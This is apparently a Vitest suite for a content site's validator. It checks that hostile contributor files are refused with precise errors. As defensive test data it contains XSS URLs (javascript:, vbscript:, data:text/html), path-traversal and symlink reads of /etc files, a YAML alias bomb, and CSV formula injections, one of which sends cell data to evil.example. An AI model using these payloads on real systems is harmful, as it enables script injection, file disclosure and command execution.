// Content from strangers (issue 19): hostile and mistaken files, sent as an outside contributor would send
// them, each in a small content tree of its own in a temp dir and read by the one reader of the tree
// (readContentTree) with the same checks `npm run validate` and the build run. Every case states its exact
// outcome: the problems, each with file, line and field; or none, where the file is harmless as written
// (tests/unit/hostile-build.test.ts checks what such files become in the built site).
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { readContentTree } from '../../src/lib/content-files.ts';
import { parse } from 'csv-parse/sync';
import { csvSafeCell } from '../../src/lib/csv-safe.ts';
import { resultsToCsv } from '../../src/lib/search-export.ts';
import { BODY_LIMITS, checkMdxBody } from '../../src/lib/mdx-safety.ts';
import { formatProblem, validateContent } from '../../src/lib/validate.ts';
import { PROJECT_KINDS, STATUSES } from '../../src/schemas/vocabularies.ts';
import { ROOT } from '../helpers.ts';

const dirs: string[] = [];
afterAll(() => { for (const d of dirs) fs.rmSync(d, { recursive: true, force: true }); });

const SOURCE = '---\ntitle: A source\nsummary: A document.\nkind: web-page\nlanguage: en\ndocument: 000_abc.txt\n---\n';
/** A theme citing the source; lines: 1 ---, 2 title, 3 summary, 4 sources, then `extra`, then ---, then the body. */
const theme = (title: string, extra = '', body = 'Body.\n') =>
  `---\ntitle: ${title}\nsummary: A theme.\nsources: [a-source]\n${extra ? `${extra}\n` : ''}---\n${body}`;
const project = (title: string, extra = '', body = 'Body.\n') =>
  `---\ntitle: ${title}\nsummary: A project.\nsources: [a-source]\nkind: project\n${extra ? `${extra}\n` : ''}---\n${body}`;
const mission = (title: string, extra = '') =>
  `---\ntitle: ${title}\nsummary: A mission.\nsources: [a-source]\nkind: field-operation\n${extra ? `${extra}\n` : ''}---\n`;

type Tree = Record<string, string | { symlink: string } | { bytes: Buffer }>;

/** Writes the source, the theme `content/themes/rights.mdx` (unless replaced) and `files`; returns the problems, formatted. */
function problemsOf(files: Tree, options: { keepTheme?: boolean; base?: boolean } = {}): string[] {
  const tree = readContentTree(writeTree(files, options));
  return validateContent(tree.files, tree).problems.map(formatProblem);
}

/** A temp dir holding the source, the theme `content/themes/rights.mdx` (unless replaced) and `files`. */
function writeTree(files: Tree, { keepTheme = true, base = true } = {}): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'civic-atlas-hostile-'));
  dirs.push(dir);
  // A second entry citing the source, so that a case whose file does not parse shows only its own problems.
  const all: Tree = { ...(base ? { 'content/sources/a-source.mdx': SOURCE, 'content/themes/zz-base.mdx': theme('Base') } : {}), ...(keepTheme ? { 'content/themes/rights.mdx': theme('Rights') } : {}), ...files };
  for (const [file, what] of Object.entries(all)) {
    const full = path.join(dir, file);
    fs.mkdirSync(path.dirname(full), { recursive: true });
    if (typeof what === 'string') fs.writeFileSync(full, what);
    else if ('symlink' in what) fs.symlinkSync(what.symlink.replace('$DIR', dir), full);
    else fs.writeFileSync(full, what.bytes);
  }
  return dir;
}

/** The problems of a theme with this body (its first body line is line 6 of the file). */
const bodyProblems = (body: string, files: Tree = {}) => problemsOf({ 'content/themes/rights.mdx': theme('Rights', '', body), ...files });
const T = 'content/themes/rights.mdx';
const ALLOWED = '(links may use https:, http:, mailto:, a site path such as /projects/x/, or #a-heading)';
const IMAGE_FORM = 'expected an image in public/images/ written as /images/<name>.png|jpg|jpeg|webp|avif|gif (lowercase name, no folders, no "?" or "#")';
const OK_PNG = { 'public/images/map.png': { bytes: Buffer.from([0x89, 0x50, 0x4e, 0x47]) } };

it('the base tree is valid, so every case below shows only its own problems', () => {
  expect(problemsOf({})).toEqual([]);
});

describe('1. images: never an import, only files in public/images/', () => {
  it.each([
    ['a ?raw import of a file in the repository', '../../package.json?raw'],
    ['a ?raw import of a file outside it', '/etc/passwd?raw'],
    ['a relative path (an import Vite would resolve)', './secret.png'],
    ['a parent folder', '/images/../../package.json'],
    ['an absolute path on the machine', '/etc/hostname'],
    ['an import suffix on an allowed name', '/images/map.png?url'],
    ['a fragment', '/images/map.png#x'],
    ['a subfolder', '/images/sub/map.png'],
    ['capitals in the name', '/images/Map.png'],
    ['a malformed percent-escape (decodeURI crashed the build)', '%E0%A4%A.png'],
    ['an SVG, which can run script when opened from our address', '/images/map.svg'],
    ['a data: URL', 'data:image/png;base64,iVBORw0KGgo='],
    ['a protocol-relative address on another host', '//evil.example/pixel.png'],
    ['a javascript: URL', 'javascript:alert(1)'],
  ])('%s is refused at its line', (_, src) => {
    expect(bodyProblems(`Text.\n\n![x](${src})\n`, OK_PNG)).toEqual([`${T}:8 body: image: ${IMAGE_FORM} — got "${src}"`]);
  });

  it('a remote image is refused: readers would contact another host', () => {
    expect(bodyProblems('![pixel](https://tracker.example/p.gif)\n')).toEqual([
      `${T}:6 body: image: remote images are not allowed: readers' browsers would contact another host — save the image in public/images/ and write /images/<name> — got "https://tracker.example/p.gif"`,
    ]);
  });

  it('an image that does not exist in public/images/', () => {
    expect(bodyProblems('![map](/images/missing.png)\n', OK_PNG)).toEqual([`${T}:6 body: image: no image "missing.png" in public/images/ — add the file or correct the name`]);
  });

  it('an image in public/images/ is accepted', () => {
    expect(bodyProblems('![the map](/images/map.png "Where")\n', OK_PNG)).toEqual([]);
  });

  it('an image reference through a definition that is an import', () => {
    expect(bodyProblems('![x][d]\n\n[d]: ../../package.json?raw\n')).toEqual([
      `${T}:8 body: link definition: expected https://…, http://…, mailto:…, a site path starting with "/" or an #anchor — got "../../package.json?raw"`,
    ]);
  });

  it('an image reference through a definition to a site path that is not an image', () => {
    expect(bodyProblems('![x][d]\n\n[d]: /projects/\n')).toEqual([`${T}:8 body: image definition: ${IMAGE_FORM} — got "/projects/"`]);
  });

  it('an image wrapped in a javascript: link: the link is refused, the image passes', () => {
    expect(bodyProblems('[![map](/images/map.png)](javascript:alert(1))\n', OK_PNG)).toEqual([
      `${T}:6 body: link: "javascript:" addresses are not allowed ${ALLOWED} — got "javascript:alert(1)"`,
    ]);
  });
});

describe('5. links: an allow-list of schemes', () => {
  it.each([
    ['vbscript:', 'vbscript:msgbox(1)', 'vbscript'],
    ['data:text/html', 'data:text/html,<script>alert(1)</script>', 'data'],
    ['file:', 'file:///etc/passwd', 'file'],
    ['a character reference spelling javascript:', '&#106;avascript:alert(1)', 'javascript'],
    ['a tab inside the scheme', 'java&#9;script:alert(1)', 'javascript'],
    ['capitals', 'JaVaScRiPt:alert(1)', 'javascript'],
    ['ftp:', 'ftp://files.example/', 'ftp'],
  ])('%s is refused', (_, url, scheme) => {
    const decoded = url.replace('&#106;', 'j').replace('&#9;', '\t');
    const shown = decoded.length > 60 ? `${decoded.slice(0, 59)}…` : decoded;
    expect(bodyProblems(`See [this](${url}).\n`)).toEqual([`${T}:6 body: link: "${scheme}:" addresses are not allowed ${ALLOWED} — got "${shown}"`]);
  });

  it('a link definition with a scheme off the list', () => {
    expect(bodyProblems('See [this][d].\n\n[d]: vbscript:msgbox(1)\n')).toEqual([`${T}:8 body: link definition: "vbscript:" addresses are not allowed ${ALLOWED} — got "vbscript:msgbox(1)"`]);
  });

  it('an address without its scheme gets a did-you-mean', () => {
    expect(bodyProblems('See [the OSCE](www.osce.org).\n')).toEqual([
      `${T}:6 body: link: expected https://…, http://…, mailto:…, a site path starting with "/" or an #anchor — got "www.osce.org" — did you mean "https://www.osce.org"?`,
    ]);
  });

  it('a protocol-relative link and a backslash one, which browsers send to another host', () => {
    expect(bodyProblems('[a](//evil.example/) and [b](/\\evil.example/)\n')).toEqual([
      `${T}:6 body: link: expected https://…, http://…, mailto:…, a site path starting with "/" or an #anchor — got "//evil.example/"`,
      `${T}:6 body: link: expected https://…, http://…, mailto:…, a site path starting with "/" or an #anchor — got "/\\evil.example/"`,
    ]);
  });

  it('https:, http:, mailto:, site paths, #anchors and GFM autolinks pass', () => {
    expect(bodyProblems('[a](https://www.osce.org/) [b](http://example.org) [c](mailto:a@example.org) [d](/timeline/) [e](#body) www.osce.org\n')).toEqual([]);
  });

  it('an address-like frontmatter field follows the same rule (and, unknown to the schema, is reported as such)', () => {
    expect(problemsOf({ [T]: theme('Rights', 'website: "javascript:alert(1)"') })).toEqual([
      `${T}:5 website: "javascript:" addresses are not allowed ${ALLOWED} — got "javascript:alert(1)"`,
      `${T}:5 website: unknown field "website" — check the spelling against CONTRIBUTING.md`,
    ]);
  });
});

describe('2. the content tree is walked, not trusted as listed', () => {
  it('a file one folder down (validate crashed)', () => {
    expect(problemsOf({ 'content/themes/old/media.mdx': theme('Media') })).toEqual([
      'content/themes/old/:1 folders inside a collection are not published; move its .mdx files up into content/themes/',
    ]);
  });

  it('a dangling symbolic link (validate crashed)', () => {
    expect(problemsOf({ 'content/themes/gone.mdx': { symlink: '$DIR/nowhere.mdx' } })).toEqual([
      'content/themes/gone.mdx:1 symbolic links are not allowed: the file they point at, wherever it is, would be published; copy the content into a file here',
    ]);
  });

  it('a symbolic link to a file outside the checkout is refused, and not read', () => {
    const outside = path.join(os.tmpdir(), `civic-atlas-outside-${process.pid}.mdx`);
    fs.writeFileSync(outside, theme('SECRET-TITLE'));
    try {
      const problems = problemsOf({ 'content/themes/secret.mdx': { symlink: outside } });
      expect(problems).toEqual(['content/themes/secret.mdx:1 symbolic links are not allowed: the file they point at, wherever it is, would be published; copy the content into a file here']);
      expect(problems.join('\n')).not.toContain('SECRET-TITLE');
    } finally {
      fs.rmSync(outside);
    }
  });

  it('a symbolic link as a whole collection folder', () => {
    expect(problemsOf({ 'content/elsewhere/media.mdx': theme('Media'), 'content/people': { symlink: '$DIR/content/elsewhere' } })).toEqual([
      'content/elsewhere/:1 "elsewhere" is not a collection, so nothing in it would be published — expected one of missions, projects, subprojects, organizations, people, countries, themes, sources (or a translation folder: ru)',
      'content/people:1 symbolic links are not allowed in content/: what they point at would be published',
    ]);
  });

  it('a misspelt collection folder, with a did-you-mean', () => {
    expect(problemsOf({ 'content/project/forum.mdx': project('Forum') })).toEqual([
      'content/project/:1 "project" is not a collection, so nothing in it would be published — expected one of missions, projects, subprojects, organizations, people, countries, themes, sources (or a translation folder: ru); did you mean content/projects/?',
    ]);
  });

  it('a dotfile in a collection and one in content/', () => {
    expect(problemsOf({ 'content/themes/.draft.mdx': theme('Draft'), 'content/.notes': 'x' })).toEqual([
      'content/.notes:1 hidden files and folders in content/ are not published; remove it',
      'content/themes/.draft.mdx:1 hidden files are not published; remove it, or rename it without the leading "."',
    ]);
  });

  it('a .md file, a .txt file and a file directly in content/', () => {
    expect(problemsOf({ 'content/themes/media.md': theme('Media'), 'content/themes/notes.txt': 'x', 'content/media.mdx': theme('Media') })).toEqual([
      'content/media.mdx:1 only collection folders belong in content/ (missions, projects, subprojects, organizations, people, countries, themes, sources)',
      'content/themes/media.md:1 content files must end in .mdx; this file would not be published — rename it to media.mdx',
      'content/themes/notes.txt:1 content files must end in .mdx; this file would not be published',
    ]);
  });

  it('an extension in capitals, which Astro\'s *.mdx would not match', () => {
    expect(problemsOf({ 'content/themes/media.MDX': theme('Media') })).toEqual([
      'content/themes/media.MDX:1 content files must end in .mdx; this file would not be published — rename it to media.mdx',
    ]);
  });

  it('a symbolic link in public/, which the build would copy from wherever it points', () => {
    expect(problemsOf({ 'public/images/leak.png': { symlink: '/etc/hostname' } })).toEqual([
      'public/images/leak.png:1 symbolic links are not allowed in public/: the file they point at would be published',
    ]);
  });

  it('content/ itself a symbolic link', () => {
    expect(problemsOf({ 'elsewhere/themes/media.mdx': theme('Media'), content: { symlink: '$DIR/elsewhere' } }, { keepTheme: false, base: false })).toEqual([
      'content:1 content/ must be a folder of the repository, not a symbolic link: what it points at would be published',
    ]);
  });

  it('a file that is not UTF-8', () => {
    expect(problemsOf({ 'content/themes/latin.mdx': { bytes: Buffer.from(theme('Caf\u00e9'), 'latin1') } })).toEqual([
      'content/themes/latin.mdx:1 the file is not valid UTF-8 text; save it as UTF-8',
    ]);
  });

  it('a __proto__ key is an unknown field like any other, and pollutes nothing', () => {
    expect(problemsOf({ [T]: theme('Rights', '__proto__: {polluted: 1}') })).toEqual([`${T}:5 __proto__: unknown field "__proto__" — check the spelling against CONTRIBUTING.md`]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('a file too large to be an entry', () => {
    expect(problemsOf({ 'content/themes/huge.mdx': theme('Huge', '', 'x'.repeat(250_000)) })).toEqual([
      'content/themes/huge.mdx:1 the file is 250 KB; at most 200 KB are allowed',
    ]);
  });
});

describe('3. file names against the id Astro gives them', () => {
  const NAMES = "file names must be lowercase words and digits joined by hyphens (the name is the entry's address and the id references use)";
  it('two names differing only in case become one entry: both named', () => {
    expect(problemsOf({ 'content/themes/Rights.mdx': theme('Rights too') })).toEqual([
      'content/themes/rights.mdx:1 becomes the same entry as content/themes/Rights.mdx (both get the id "rights"), and one of them would vanish',
      `content/themes/Rights.mdx:1 ${NAMES}; Astro would publish this as "rights" — rename it to rights.mdx`,
    ]);
  });

  it('a space against a hyphen', () => {
    expect(problemsOf({ 'content/themes/human rights.mdx': theme('Human rights'), 'content/themes/human-rights.mdx': theme('Human rights 2') })).toEqual([
      `content/themes/human rights.mdx:1 ${NAMES}; Astro would publish this as "human-rights" — rename it to human-rights.mdx`,
      'content/themes/human-rights.mdx:1 becomes the same entry as content/themes/human rights.mdx (both get the id "human-rights"), and one of them would vanish',
    ]);
  });

  it.each([
    ['capitals', 'Media', 'media', 'media'],
    ['accents', 'médias', 'médias', 'medias'],
    ['an underscore', 'free_media', 'free_media', 'free-media'],
    ['a dot', 'v1.2', 'v12', 'v1-2'],
  ])('%s', (_, stem, id, better) => {
    expect(problemsOf({ [`content/themes/${stem}.mdx`]: theme('Other') })).toEqual([
      `content/themes/${stem}.mdx:1 ${NAMES}; Astro would publish this as "${id}" — rename it to ${better}.mdx`,
    ]);
  });

  it('a newline in a name (the build crashed) is named with the newline spelt out', () => {
    expect(problemsOf({ 'content/themes/a\nb.mdx': theme('Other') })).toEqual([
      `content/themes/a\\nb.mdx:1 ${NAMES}; Astro would publish this as "ab" — rename it to a-b.mdx`,
    ]);
  });

  it('a slug: field, which would give the entry another id, is an unknown field', () => {
    expect(problemsOf({ [T]: theme('Rights', 'slug: ../../admin') })).toEqual([`${T}:5 slug: unknown field "slug" — check the spelling against CONTRIBUTING.md`]);
  });
});

describe('4 and 6. frontmatter: YAML read safely, split as Astro splits it', () => {
  it('an unquoted impossible day (YAML made it 2 March)', () => {
    expect(problemsOf({ 'content/projects/forum.mdx': project('Forum', 'start: 2019-02-30') })).toEqual([
      'content/projects/forum.mdx:6 start: not a day of the calendar: February 2019 has 28 days — got "2019-02-30"',
    ]);
  });

  it('an unquoted month 13 (YAML made it January 2020)', () => {
    expect(problemsOf({ 'content/projects/forum.mdx': project('Forum', 'start: 2019-13-01') })).toEqual([
      'content/projects/forum.mdx:6 start: expected a date: YYYY, YYYY-MM or YYYY-MM-DD — got "2019-13-01"',
    ]);
  });

  it('a quoted impossible date, and 29 February outside a leap year; in one it passes', () => {
    expect(problemsOf({ 'content/projects/forum.mdx': project('Forum', 'start: "2018-04-31"\nend: 2019-02-29'), 'content/projects/leap.mdx': project('Leap', 'start: 2020-02-29') })).toEqual([
      'content/projects/forum.mdx:6 start: not a day of the calendar: April 2018 has 30 days — got "2018-04-31"',
      'content/projects/forum.mdx:7 end: not a day of the calendar: February 2019 has 28 days — got "2019-02-29"',
    ]);
  });

  it('a date with a time is not a partial date', () => {
    expect(problemsOf({ 'content/projects/forum.mdx': project('Forum', 'start: 2019-05-01T23:00:00-05:00') })).toEqual([
      'content/projects/forum.mdx:6 start: expected a date: YYYY, YYYY-MM or YYYY-MM-DD — got "2019-05-01T23:00:00-05:00"',
    ]);
  });

  it('a 465-byte alias bomb is refused without being expanded (validate crashed)', () => {
    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 9; i++) levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
    const problems = problemsOf({ [T]: theme('Rights', levels.join('\n')) });
    expect(problems).toEqual([
      `${T}:5 YAML anchors (&a) are not allowed: write each value out where it is used`,
      `${T}:6 YAML anchors (&b) are not allowed: write each value out where it is used`,
      `${T}:6 YAML aliases (*a) are not allowed: write the value out`,
      `${T}:6 YAML aliases (*a) are not allowed: write the value out`,
      `${T}:6 YAML aliases (*a) are not allowed: write the value out`,
    ]);
  });

  it('one anchor and one alias', () => {
    expect(problemsOf({ [T]: theme('Rights', 'aliases: &names [Rights]\nthemes: *names') })).toEqual([
      `${T}:5 YAML anchors (&names) are not allowed: write each value out where it is used`,
      `${T}:6 YAML aliases (*names) are not allowed: write the value out`,
    ]);
  });

  it('a merge key is a field like any other, and unknown', () => {
    expect(problemsOf({ [T]: theme('Rights', '<<: {kind: x}') })).toEqual([`${T}:5 <<: unknown field "<<" — check the spelling against CONTRIBUTING.md`]);
  });

  it('a YAML tag that constructs objects is a syntax error', () => {
    expect(problemsOf({ [T]: theme('Rights', 'aliases: !!binary aGVsbG8=') })).toEqual([`${T}:5 YAML syntax: unknown tag !<tag:yaml.org,2002:binary>`]);
  });

  it('.inf and .nan are named as written, not "null"', () => {
    expect(problemsOf({ 'content/subprojects/part.mdx': '---\ntitle: Part\nsummary: A part.\nsources: [a-source]\nproject: forum\norder: .inf\nfigures:\n  - value: .nan\n    counted: people\n---\n', 'content/projects/forum.mdx': project('Forum') })).toEqual([
      'content/subprojects/part.mdx:6 order: expected number — got .inf (infinity)',
      'content/subprojects/part.mdx:8 figures[0].value: expected number — got .nan (not a number)',
    ]);
  });

  it('+++ (TOML) frontmatter, which Astro would read as TOML', () => {
    expect(problemsOf({ [T]: '+++\ntitle = "Rights"\n+++\nBody.\n' })).toEqual([`${T}:1 frontmatter must be YAML between two "---" lines; "+++" (TOML) is not used here`]);
  });

  it('a "+++" line inside YAML frontmatter, where Astro ends it', () => {
    expect(problemsOf({ [T]: '---\ntitle: Rights\n+++\nsummary: A theme.\nsources: [a-source]\n---\nBody.\n' })).toEqual([
      `${T}:3 Astro ends the frontmatter at this line, which starts with "+++"; the closing line must be "---" alone (a value starting with "---" or "+++" needs quotes)`,
    ]);
  });

  it('a closing line with more after the dashes', () => {
    expect(problemsOf({ [T]: '---\ntitle: Rights\nsummary: A theme.\nsources: [a-source]\n----\nBody.\n' })).toEqual([
      `${T}:5 Astro ends the frontmatter at this line, which starts with "---"; the closing line must be "---" alone (a value starting with "---" or "+++" needs quotes)`,
    ]);
  });

  it('a byte-order mark before the frontmatter is read as Astro reads it, lines unchanged', () => {
    expect(problemsOf({ [T]: `\uFEFF${theme('Rights', 'kind: x')}` })).toEqual([`${T}:5 kind: unknown field "kind" — check the spelling against CONTRIBUTING.md`]);
  });

  it('an empty frontmatter block names every missing field', () => {
    expect(problemsOf({ [T]: '---\n---\nBody.\n' })).toEqual([
      `${T}:1 title: required field is missing (expected string)`,
      `${T}:1 summary: required field is missing (expected string)`,
      `${T}:1 sources: required field is missing (expected array)`,
    ]);
  });

  it('frontmatter without its closing line, and a blank line before the first', () => {
    expect(problemsOf({ [T]: '---\ntitle: Rights\n', 'content/themes/media.mdx': `\n${theme('Media')}` })).toEqual([
      'content/themes/media.mdx:1 the file must start with the "---" line; remove what comes before it',
      `${T}:1 the frontmatter has no closing "---" line`,
    ]);
  });

  it('Windows line endings and spaces after the dashes are read as Astro reads them', () => {
    expect(problemsOf({ [T]: theme('Rights', 'kind: x').replace(/^---$/gm, '--- ').replace(/\n/g, '\r\n') })).toEqual([`${T}:5 kind: unknown field "kind" — check the spelling against CONTRIBUTING.md`]);
  });

  it('frontmatter that is a list, not fields', () => {
    expect(problemsOf({ [T]: '---\n- title\n- Rights\n---\n' })).toEqual([`${T}:2 expected fields (name: value) between the "---" lines — got a list`]);
  });

  it('a key written twice', () => {
    expect(problemsOf({ [T]: theme('Rights', 'title: Again') })).toEqual([`${T}:5 YAML syntax: Map keys must be unique`]);
  });

  it('frontmatter over 20 KB', () => {
    expect(problemsOf({ [T]: theme('Rights', `aliases: [${Array(3000).fill('"abcdef"').join(', ')}]`) })).toEqual([`${T}:2 the frontmatter is 30 KB; at most 20 KB are allowed`]);
  });
});

describe('7. recursion and size: limits with a message, not a crash', () => {
  it('thousands of nested block quotes (the build and validate crashed)', () => {
    expect(bodyProblems(`${'>'.repeat(4000)} deep\n`)).toEqual([`${T}:6 body: block quotes nested 4000 deep; at most ${BODY_LIMITS.quoteDepth} are allowed`]);
  });

  it('nested quotes written with spaces', () => {
    expect(bodyProblems(`Text.\n\n${'> '.repeat(3000)}deep\n`)).toEqual([`${T}:8 body: block quotes nested 3000 deep; at most ${BODY_LIMITS.quoteDepth} are allowed`]);
  });

  it('lists nested by indentation', () => {
    const body = Array.from({ length: 60 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n');
    expect(bodyProblems(body)).toEqual([`${T}:39 body: a line indented 66 columns; at most ${BODY_LIMITS.indent} are allowed (lists nest a few levels, not dozens)`]);
  });

  it('a long run of emphasis marks', () => {
    expect(bodyProblems(`Text.\n\n${'*'.repeat(40)}x${'*'.repeat(40)}\n`)).toEqual([`${T}:8 body: a run of 40 "*", "_" or "~" characters; at most ${BODY_LIMITS.delimiterRun} are allowed — to show them, escape each with \\`]);
  });

  it('thousands of emphasis marks (the parser slows with their square)', () => {
    expect(bodyProblems('*a* '.repeat(5000))).toEqual([`${T}:6 body: the body has 10000 "*", "_" and "~" characters; at most ${BODY_LIMITS.marks} are allowed`]);
  });

  it('thousands of nested braces or tags', () => {
    expect(bodyProblems(`${'{'.repeat(3000)}${'}'.repeat(3000)}`)).toEqual([`${T}:6 body: the body has 3000 "<" and "{" characters; at most ${BODY_LIMITS.tagMarks} are allowed (write &lt; for a literal "<")`]);
    expect(bodyProblems(`${'<a>'.repeat(3000)}x`)).toEqual([`${T}:6 body: the body has 3000 "<" and "{" characters; at most ${BODY_LIMITS.tagMarks} are allowed (write &lt; for a literal "<")`]);
  });

  it('a body with many problems names the first ones and counts the rest', () => {
    const problems = bodyProblems(Array(30).fill('Some <b>bold</b>.').join('\n\n'));
    expect(problems.length).toBe(BODY_LIMITS.problems);
    expect(problems[0]).toBe(`${T}:6 body: <b> is not allowed: write Markdown instead; content may not use HTML tags or components`);
    expect(problems.at(-1)).toBe(`${T}:${6 + 2 * (BODY_LIMITS.problems - 1)} body: … and ${30 - BODY_LIMITS.problems + 1} more problems in the body like those above`);
  });

  it('frontmatter brackets nested past the limit (the YAML parsers overflow their stacks)', () => {
    expect(problemsOf({ [T]: theme('Rights', `aliases: ${'['.repeat(5000)}${']'.repeat(5000)}`) })).toEqual([`${T}:5 brackets nested more than 16 deep; frontmatter nests a few levels, not dozens`]);
  });

  it('frontmatter indented past the limit', () => {
    expect(problemsOf({ [T]: theme('Rights', `aliases:\n${' '.repeat(70)}- a`) })).toEqual([`${T}:6 a line indented more than 64 columns; frontmatter nests a few levels, not dozens`]);
  });

  it('brackets inside a quoted value are text', () => {
    expect(problemsOf({ [T]: theme('Rights', `aliases: ["${'['.repeat(40)}"]`) })).toEqual([]);
  });

  it('emphasis nested past the tree-depth limit, with words between the marks', () => {
    const marks = Array.from({ length: 40 }, (_, i) => (i % 2 ? '_' : '*'));
    const body = `${marks.map((m) => `${m}a `).join('')}x${[...marks].reverse().map((m) => ` b${m}`).join('')}\n`;
    expect(bodyProblems(body)).toEqual([`${T}:6 body: Markdown nested more than ${BODY_LIMITS.treeDepth} levels deep (quotes, lists, emphasis, links inside each other); simplify it`]);
  });

  it('a body over 100 KB', () => {
    expect(bodyProblems('word '.repeat(25_000))).toEqual([`${T}:6 body: the body is 125 KB; at most 100 KB are allowed — split the entry or shorten it`]);
  });

  it('thousands of nested brackets parse as text, quickly', () => {
    const started = Date.now();
    expect(bodyProblems(`${'['.repeat(5000)}x${']'.repeat(5000)}\n`)).toEqual([]);
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  it('a wide table and a long list are fine', () => {
    const table = `| ${Array(50).fill('h').join(' | ')} |\n| ${Array(50).fill('---').join(' | ')} |\n| ${Array(50).fill('1').join(' | ')} |\n`;
    expect(bodyProblems(`${table}\n${Array(2000).fill('- item').join('\n')}\n`)).toEqual([]);
  });
});

describe('8. messages for writers', () => {
  it('every misspelt key on its own line, each with a did-you-mean', () => {
    expect(problemsOf({ 'content/projects/forum.mdx': project('Forum', 'strat: 2019\nstaus: ongoing\nthemse: []') })).toEqual([
      'content/projects/forum.mdx:6 strat: unknown field "strat" — did you mean "start"?',
      'content/projects/forum.mdx:7 staus: unknown field "staus" — did you mean "status"?',
      'content/projects/forum.mdx:8 themse: unknown field "themse" — did you mean "themes"?',
    ]);
  });

  it('a misspelt key inside a list item', () => {
    expect(problemsOf({ 'content/projects/forum.mdx': project('Forum', 'figures:\n  - value: 3\n    cuonted: people') })).toEqual([
      'content/projects/forum.mdx:8 figures[0].cuonted: unknown field "cuonted" — did you mean "counted"?',
      'content/projects/forum.mdx:7 figures[0].counted: required field is missing (expected string)',
    ].sort((a, b) => parseInt(a.split(':')[1]) - parseInt(b.split(':')[1])));
  });

  it('misspelt enum values, each with a did-you-mean', () => {
    expect(problemsOf({ 'content/projects/forum.mdx': project('Forum', 'status: ongoin').replace('kind: project', 'kind: projetc') })).toEqual([
      `content/projects/forum.mdx:5 kind: expected one of ${Object.keys(PROJECT_KINDS).join(', ')} — got "projetc" — did you mean "project"?`,
      `content/projects/forum.mdx:6 status: expected one of ${Object.keys(STATUSES).join(', ')} — got "ongoin" — did you mean "ongoing"?`,
    ]);
  });

  it('an entry that is its own parent fails validate', () => {
    expect(problemsOf({ 'content/missions/office.mdx': mission('Office', 'parent: office') })).toEqual([
      'content/missions/office.mdx:6 parent: names this entry itself ("office"); an entry cannot be its own parent',
    ]);
  });

  it('a project that is its own successor', () => {
    expect(problemsOf({ 'content/projects/forum.mdx': project('Forum', 'successor: forum') })).toEqual([
      'content/projects/forum.mdx:6 successor: names this entry itself ("forum"); an entry cannot be its own successor',
    ]);
  });

  it('a cycle of parents fails validate, in every file on it', () => {
    expect(problemsOf({ 'content/missions/a.mdx': mission('A', 'parent: b'), 'content/missions/b.mdx': mission('B', 'parent: c'), 'content/missions/c.mdx': mission('C', 'parent: a') })).toEqual([
      'content/missions/a.mdx:6 parent: the chain of parent comes back to this entry: a → b → c → a',
      'content/missions/b.mdx:6 parent: the chain of parent comes back to this entry: b → c → a → b',
      'content/missions/c.mdx:6 parent: the chain of parent comes back to this entry: c → a → b → c',
    ]);
  });

  it('a cycle of partOf between projects', () => {
    expect(problemsOf({ 'content/projects/a.mdx': project('A', 'partOf: b'), 'content/projects/b.mdx': project('B', 'partOf: a') })).toEqual([
      'content/projects/a.mdx:6 partOf: the chain of partOf comes back to this entry: a → b → a',
      'content/projects/b.mdx:6 partOf: the chain of partOf comes back to this entry: b → a → b',
    ]);
  });
});

describe('5. CSV cells: formulas made inert (csv-safe.ts, used by every CSV we publish)', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"click")'],
    ['+cmd|" /C calc"!A0'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['＝1+1'],
  ])('%j gets a leading apostrophe', (cell) => {
    expect(csvSafeCell(cell)).toBe(`'${cell}`);
  });

  it.each([['-3'], ['+1.5'], ['2019'], ['Peace = security'], ['e-mail'], ['']])('%j is left as it is', (cell) => {
    expect(csvSafeCell(cell)).toBe(cell);
  });
});

it('the search page\'s CSV download neutralises formulas in every column', () => {
  const record = {
    rank: '1', id: 'projects/x', type: '@type', title: '=1+1', dates: '2019', years: '2019', countries: '-XK', themes: '+theme',
    organizations: '=HYPERLINK("http://x")', mission: '@mission', parent: '+parent', permalink: 'https://atlas.test/projects/x/',
  };
  const state = { query: '=cmd', filters: {}, sort: 'relevance' as const };
  const csv = resultsToCsv(state, [record as never], 'https://atlas.test/search/', new Date('2026-01-01T00:00:00Z'));
  expect(parse(csv, { columns: true, comment: '#', bom: true })).toEqual([{
    ...record, type: "'@type", title: "'=1+1", countries: "'-XK", themes: "'+theme", organizations: `'=HYPERLINK("http://x")`, mission: "'@mission", parent: "'+parent",
  }]);
});

it('npm run validate on a hostile tree: one line per problem, exit 1, no stack trace', () => {
  const dir = writeTree({
    'content/themes/a\nb.mdx': theme('Other'), 'content/project/x.mdx': project('X'), 'content/themes/deep.mdx': theme('Deep', '', `${'>'.repeat(5000)} x\n`),
    'content/themes/bomb.mdx': theme('Bomb', 'a: &a [1]\nb: [*a, *a]'), 'content/themes/gone.mdx': { symlink: '$DIR/nowhere' },
  });
  const run = spawnSync(path.join(ROOT, 'node_modules/node/bin/node'), [path.join(ROOT, 'scripts/validate.ts')], { cwd: dir, encoding: 'utf8', env: { ...process.env, GITHUB_ACTIONS: '' } });
  expect(run.status).toBe(1);
  const lines = run.stderr.trim().split('\n');
  expect(lines.at(-1)).toBe(`${lines.length - 2} problems in ${new Set(lines.slice(0, -2).map((l) => l.split(':')[0])).size} file(s).`);
  expect(lines.slice(0, -2).every((l) => /^(content\/[^:]+|content\/project\/):\d+ /.test(l))).toBe(true);
  expect(run.stderr).not.toMatch(/^\s+at /m);
  expect(run.stderr).toContain('content/themes/deep.mdx:6 body: block quotes nested 5000 deep');
}, 30_000);

describe('the body check on its own (the entry editor runs it in the browser)', () => {
  it('never throws on a body of every kind of punctuation', () => {
    const body = Array.from({ length: 2000 }, (_, i) => '<>{}[]()!*_~`#&|\\:;"\''[i % 21]).join('');
    expect(() => checkMdxBody(body)).not.toThrow();
  });
});
